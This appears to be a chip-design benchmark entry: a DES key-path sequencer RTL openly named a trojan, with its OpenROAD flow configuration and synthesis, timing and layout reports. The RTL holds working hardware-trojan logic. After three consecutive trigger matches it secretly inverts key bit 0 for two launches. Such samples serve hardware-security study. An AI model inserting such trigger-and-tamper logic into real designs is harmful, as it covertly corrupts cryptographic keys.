[config.mk]
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_seq_ctrl
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_arm_counter.sv /design/src/rtl/trojan_seq_ctrl.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 15
export CORE_MARGIN = 5
export CORE_UTILIZATION = 47
export CTS_CLUSTER_SIZE = 14
export DETAILED_ROUTE_END_ITERATION = 8
export PLACE_DENSITY = 0.95
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
[constraint.sdc]
create_clock -name clk -period 2.4 [get_ports clk]
set_clock_uncertainty 0.1 [all_clocks]
set_input_delay 0.24 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.24 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
[src/rtl/trojan_pkg.sv]
// Shared widths, default trigger nibble and FSM state encoding for the DES
// key-path sequencing controller.
package trojan_pkg;

  localparam int KEY_W  = 56;
  localparam int TRIG_W = 32;
  localparam int NIB_W  = 4;

  localparam logic [NIB_W-1:0] COND_DEFAULT = 4'hF;

  typedef enum logic [1:0] {
    ST_IDLE   = 2'd0,
    ST_LAUNCH = 2'd1,
    ST_WAIT   = 2'd2
  } state_e;

endpackage

[src/rtl/trojan_arm_counter.sv]
// Streak and fire counters: counts consecutive matching accepts, arms the
// payload for FIRE_COUNT launches, then consumes one per accept.
module trojan_arm_counter #(
  parameter int ARM_COUNT  = 3,
  parameter int FIRE_COUNT = 2,
  parameter int CNT_W      = 4
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             accept,
  input  logic             match,
  output logic [CNT_W-1:0] fire_left,
  output logic             arm
);

  localparam logic [CNT_W-1:0] ONE      = CNT_W'(1);
  localparam logic [CNT_W-1:0] ARM_LAST = CNT_W'(ARM_COUNT);
  localparam logic [CNT_W-1:0] FIRE_MAX = CNT_W'(FIRE_COUNT);

  logic [CNT_W-1:0] streak_q, streak_d;
  logic [CNT_W-1:0] fire_q, fire_d;

  always_comb begin
    streak_d = streak_q;
    fire_d   = fire_q;
    arm      = 1'b0;
    if (accept) begin
      // While firing, the trigger is ignored and the streak stays cleared.
      if (fire_q != '0) begin
        fire_d   = fire_q - ONE;
        streak_d = '0;
      end else if (match) begin
        if (streak_q + ONE == ARM_LAST) begin
          fire_d   = FIRE_MAX;
          streak_d = '0;
          arm      = 1'b1;
        end else begin
          streak_d = streak_q + ONE;
        end
      end else begin
        streak_d = '0;
      end
    end
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      streak_q <= '0;
      fire_q   <= '0;
    end else begin
      streak_q <= streak_d;
      fire_q   <= fire_d;
    end
  end

  assign fire_left = fire_q;

endmodule

[src/rtl/trojan_seq_ctrl.sv]
// Request/launch/wait sequencer for the DES core with a key mux that inverts
// key[0] while the arm counter reports launches remaining.
//
// state     | meaning
// ST_IDLE   | ready, waiting for start; request latched on accept
// ST_LAUNCH | one-cycle des_start pulse to the core
// ST_WAIT   | waiting for des_done from the core
module trojan_seq_ctrl
  import trojan_pkg::*;
#(
  parameter logic [NIB_W-1:0] COND       = COND_DEFAULT,
  parameter int               ARM_COUNT  = 3,
  parameter int               FIRE_COUNT = 2,
  parameter int               CNT_W      = 4
) (
  input  logic              clk,
  input  logic              rst_n,
  input  logic              start,
  input  logic [KEY_W-1:0]  key_in,
  input  logic [TRIG_W-1:0] trigger,
  output logic              ready,
  output logic              des_start,
  output logic [KEY_W-1:0]  des_key,
  input  logic              des_done,
  output logic              armed,
  output logic [CNT_W-1:0]  fire_left
);

  state_e           state_q, state_d;
  logic [KEY_W-1:0] des_key_q, des_key_d;
  logic             accept;
  logic             match;
  logic             arm_evt;

  assign accept = start && (state_q == ST_IDLE);
  // trigger[1:4] in the host's MSB-first numbering is the top nibble here.
  assign match  = (trigger[TRIG_W-1 -: NIB_W] == COND);

  trojan_arm_counter #(
    .ARM_COUNT (ARM_COUNT),
    .FIRE_COUNT(FIRE_COUNT),
    .CNT_W     (CNT_W)
  ) u_arm_counter (
    .clk      (clk),
    .rst_n    (rst_n),
    .accept   (accept),
    .match    (match),
    .fire_left(fire_left),
    .arm      (arm_evt)
  );

  always_comb begin
    state_d   = state_q;
    des_key_d = des_key_q;
    case (state_q)
      ST_IDLE: begin
        if (accept) begin
          state_d   = ST_LAUNCH;
          des_key_d = (fire_left != '0) ? {key_in[KEY_W-1:1], ~key_in[0]} : key_in;
        end
      end
      ST_LAUNCH: state_d = ST_WAIT;
      ST_WAIT:   if (des_done) state_d = ST_IDLE;
      default:   state_d = ST_IDLE;
    endcase
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state_q   <= ST_IDLE;
      des_key_q <= '0;
    end else begin
      state_q   <= state_d;
      des_key_q <= des_key_d;
    end
  end

  assign ready     = (state_q == ST_IDLE);
  assign des_start = (state_q == ST_LAUNCH);
  assign des_key   = des_key_q;
  assign armed     = (fire_left != '0);

endmodule

After elaboration in Yosys (flattened, before gate mapping)
Index checks and enable logic that the tools add are counted.

cells by class
  equal/unequal tests = 6
  add/sub/neg operators = 2
  bitwise operators = 1
  mux-type cells = 10
  reductions and logical operators = 8

operator list
  operator                                                            number
  4-bit two-way mux                                                   6
  2-bit case mux with 3 select lines                                  1
  4-bit by 1-bit adder with 4-bit output, second input constant       1
  4-bit by 2-bit == test with 1-bit output, second input constant     1
  4-bit == test, second input constant                                1
  2-bit two-way mux                                                   2
  2-bit AND reduction                                                 2
  2-bit nonzero test                                                  2
  4-bit nonzero test                                                  1
  4-bit by 1-bit subtractor with 4-bit output, second input constant  1
  3-bit AND reduction                                                 1
  2-bit by 1-bit == test with 1-bit output, second input constant     1
  2-bit == test, second input constant                                1
  2-bit logical NOT                                                   1
  2-bit by 1-bit != test with 1-bit output, second input constant     1
  2-bit != test, second input constant                                1
  1-bit logical AND                                                   1
  1-bit two-way mux                                                   1
  1-bit inverter                                                      1

word-level totals
  input port bits = 92
  flip-flop bits (word level) = 66
  word-level logic and storage cells = 31

Longest topological paths before layout
  word-level depth = 5
  gate-level depth with buffers = 9

By module
A second synthesis with hierarchy kept.

unflattened totals
  cells, all modules = 326
  area, all modules = 2,815.2 sq um

by module, submodules not included
  module              times used  area an instance (sq um)  cells each
  trojan_seq_ctrl     1           2,254.7                   255
  trojan_arm_counter  1           560.5                     71

Worst setup path before layout
No wires, ideal clock.

  path type = flip-flop to flip-flop
  from = register u_arm_counter.fire_q[0], in the netlist u_arm_counter.fire_left[0]
  to = register u_arm_counter.fire_q[2], in the netlist u_arm_counter.fire_left[2]
  data required time = 2,183 ps
  setup slack = 948 ps
  cell stages (with the launch flop) = 8
  buffers on the path = 0
  data arrival time = 1,234 ps
  library setup time = 117 ps
  path through = dfrtp_1 -> inv_1 -> ha_1 -> nand3_2 -> inv_1 -> nand2_1 -> nand3_1 -> nand2_1

between the ends
  longest elaborated chain between the ends = 3
  elaborated cells between the ends (all ways) = 6

RTL lines
  what                           RTL line                  RTL
  from (decl)                    trojan_arm_counter.sv:21  logic [CNT_W-1:0] fire_q, fire_d;
  from (signal assigned)         trojan_arm_counter.sv:52  fire_q <= fire_d;
  4-bit nonzero test *           n/a
  net armed                      trojan_seq_ctrl.sv:25     output logic armed,
  2-bit nonzero test (no line)   n/a
  3-bit AND reduction (no line)  n/a

Mark *: on every way through the listed nets, which the timed path passes. The rest lies on a longest branch.
A chain may end at the register's enable or synchronous reset.

Worst setup path after layout
  from = register u_arm_counter.fire_q[0], in the netlist u_arm_counter.fire_left[0]
  to = output armed

between the ends
  longest elaborated chain between the ends = 1

RTL lines
  what                RTL line               RTL
  4-bit nonzero test  trojan_seq_ctrl.sv:81  assign armed = (fire_left != '0);
  to (decl)           trojan_seq_ctrl.sv:25

No other way between the ends.

==> flow_results.org <==
** Final layout
- The filler cells instantiated in the layout total 452.
- Layout overhead on the synthesized area :: 41.3%
- Once layout is done, the placed cells without fillers occupy 3830 um^2.
- For this run, the post-layout net count is 563.
- In the final layout, the share of cells above drive strength 1 is 31.9%.
- Antenna diode count :: 0

** Power
- Power density over cell area :: 1230 nW/um^2
- Max VDD drop :: 0.646 mV
- In this run the static leakage power is 2.25 nW.

** Flow run
- The tool flagged a number of max-cap violations equal to 0.

** Synthesis
- Area share of the leading cell type in the synthesized netlist :: 60.9%
- Counting every instance in the synthesized netlist gives 318.
- Flops & latches, synth :: 66
- Of the total synthesized cell area, the portion taken by XOR and XNOR cells is 0.323%.
- Yosys mapped a number of flops with a built-in enable equal to 0.
- In the synthesized netlist the async set-or-reset flop fraction comes to 100%.
- In this run, distinct cell masters in the synthesized netlist total 22.
- Ranking of synthesized cells by instance count :: nand2_1, dfrtp_1, inv_1
- Sorting the synthesized cells by area gives the leading types as dfrtp_1, nand2_1, nand3_1, inv_1, ha_1.
- Compound-cell area share of the yosys netlist :: 1.94%
- Simple-gate share of the synthesized area :: 30.7%
- nand2_1 is the most common cell in the netlist.
- Yosys warns :: 0
- Post-Syn Area per Cell :: 8.53 um^2
- Post-synthesis instance area :: 2710 um^2
- Share of cell area taken by muxes after synthesis :: 0%
- Summing the areas of all fa, ha and maj instances in the mapped netlist gives 1.38% of the synthesized area.
- After synthesis, the largest family of logic cells by area is simple AND/OR/NAND/NOR gates.
- Dominant register cell in the synthesized netlist :: dfrtp_1
- Nets in the synthesized netlist :: 413
- Part of the Yosys area used for sequential elements :: 60.9%
- The synthesized design spends more area on one cell type than any other, namely dfrtp_1.

** CTS
- For the worst-skew pair, the clock arrives at the later sink with an insertion delay of 320 ps.
- Clock tree from TritonCTS :: yes
- Max H-tree Level :: 3
- CTS saw 66 sinks.
- Gates resized during post-CTS repair numbered 0.
- TritonCTS Buffers :: 9
- Clock tree synthesis selected as its root buffer the cell clkbuf_8.
- Maximum count of clock buffers along a single path :: 2
- Clock slew seen by the registers of the worst setup and hold paths :: 80 ps

** Worst setup path
- Critical Path Slowest Stage Cell :: dfrtp_1
- Critical-path maximum fanout :: 5
- The worst register-to-register path has a depth of 6.
- In this run the critical register-to-register path is launched from state_q[0].
- Path type of the worst setup path :: flop to output port
- R2r setup slk :: 640 ps
- Buf+Inv Stages, Crit Path :: 2
- STA classifies the critical path startpoint as a flop.
- Critical path data arrival time :: 1430 ps
- STA classifies the critical path endpoint as an output port.
- Endpoint of the worst-slack reg-to-reg timing path :: des_key[39]
- CP Cell Sequence :: inv_1 > ha_1 > nand3_2 > buf_2
- For this run, the slowest stage of the critical path takes 400 ps.
- At the worst endpoint, the required time is 2060 ps.
- The cell family contributing the most delay on the critical path is flip-flops.

** Place
- Post-DP HPWL :: 5010 um
- After detailed placement, the total cell area comes to 3410 um^2.
- Number of buffers added on ports :: 126
- At the end of routability-driven placement, the weighted congestion stood at 0.770.

** Routing
- Vias per std cell :: 4.79
- The detailed router finished its first iteration with 106 violations.
- Total number of vias :: 2612
- Wire length reported by the detailed router :: 7220 um
- After detailed routing, the average wire length per cell comes to 13.2 um.
- The first detailed-routing pass ran for 5 iterations.
- The detail route stage leaves a number of antenna-violating nets equal to 0.
- Post-route DRC :: 0

** STA
- Unrepaired setup endpoints after global routing :: no
- Number of failing hold endpoints at the final stage :: 0
- Setup violations remaining at the end of the flow were counted as 0.
- In the finished design, the share of the clock period the worst path needs comes to 73.8%.
- Highest attainable clock frequency :: 564 MHz
- The tightest hold path in the finished design has a slack of 7.98 ps.
- Slew Viols, Final :: 0
- Slew margin rel. :: 52.8%
- For the pin with the worst max-slew slack, the measured transition is 708 ps.
- Setup TNS :: 0 ps
- Min Tclk post-route :: 1770 ps

** Floorplanning
- Die span in y :: 86.0 um
- The floorplan step set the die width to 86.0 um.
- Die Outline Area :: 7390 um^2
- The initial utilization of the core area, before any placement, comes to 48.9%.
- Boundary Pins :: 155
- Std cell rows :: 27
- Standard cell core area :: 5540 um^2

** GRT
- Entering global routing, the biggest net connects 45 pins.
- GRT overflow :: 0
- Aggregate global-route resource usage :: 20.3%
- The number of antenna violations at the first check in global routing was 0.
- Global-route wire length before repair :: 11900 um
- The number of global-route vias before repair is 2684.

** Outcome
- Outcome :: finished clean

** Min path
- Class of the tightest hold or removal check :: input pin to flop
- The worst hold path terminates at des_key[16].
- Hold depth :: 3
- Critical hold path startpoint :: key_in[16]
## layer usage
layer  wire length, um  share of wire (%)  GRT usage (%)
met4               189                2.6           9.78
met3               579                8.0           5.09
met2              3710                 51           35.7
met1              2740                 38           22.8
met5                 0                  0              0
## registers in the layout, summed over array words and instances, names as in the netlist
name                     count
u_arm_counter.fire_left      4
des_key                     56
u_arm_counter.streak_q       4
state_q                      2
## how the worst max path moves through the flow
| stage | start | endpoint | cells after the start |
|---|---|---|---|
| 2_1_floorplan | u_arm_counter.fire_left[0] | u_arm_counter.fire_left[2] | 7 |
| 3_3_place_gp | state_q[0] | des_key[45] | 6 |
| 3_5_place_dp | state_q[0] | des_key[39] | 6 |
| 4_1_cts | state_q[0] | des_key[39] | 6 |
| 5_1_grt | state_q[0] | des_key[39] | 6 |
| 6_report | u_arm_counter.fire_left[0] | armed | 4 |
## power by group
group	switching, mW	internal, mW	total, mW
logic	1.12	0.723	1.84
clock network	0.394	0.584	0.978
registers	0.278	1.60	1.88
total	1.79	2.91	4.70
## worst min-delay path: cells and delay by family
family,cells,cell delay [ps]
buffers and inverters,1,70
and+or+nand+nor,2,90
## layout by cell type (no fill, tap or decap), drive strengths merged, types with 2 or more instances in the layout
| master | Yosys | final |
|---|---|---|
| nand3 | 14 | 14 |
| ha | 3 | 3 |
| clkinv | 0 | 3 |
| nor2 | 7 | 7 |
| inv | 17 | 17 |
| nand2 | 188 | 188 |
| o21ai | 6 | 6 |
| dlygate4sd3 | 0 | 21 |
| clkbuf | 4 | 11 |
| buf | 8 | 130 |
| dfrtp | 66 | 66 |
| bufinv | 0 | 2 |
## cells by family after synthesis
family,after synthesis
AOI/OAI and AO/OA,9
xor gates and xnor gates,1
adders and majority gates,3
buffers and inverters,29
DFF,66
and+or+nand+nor,210
## per-stage QoR
step                worst slack, ps  std cells  util, %  total power, mW
floorplan                       948        318        -             2.92
global placement                671        508     61.6             3.62
detailed placement              632        508     61.6             3.71
CTS                             612        545     69.2             4.73
global route                    448        545     69.2             5.04
finish                          628        545     69.2             4.70
## final cells by class
cell class	instances	area (um^2)	share of cell area, %
Sequential cell	66	1650	43.1
Multi-Input combinational cell	223	932	24.3
Timing Repair Buffer	151	883	23.1
Clock buffer	11	131	3.43
Tap cell	72	90.1	2.35
Clock inverter	5	78.8	2.06
Inverter	17	63.8	1.67
## what timing repair did
item	CTS	global route
endpoints found under the hold margin	50	0
buffers inserted	0	0
hold buffers	21	0
(Power assumes the default switching activity.)
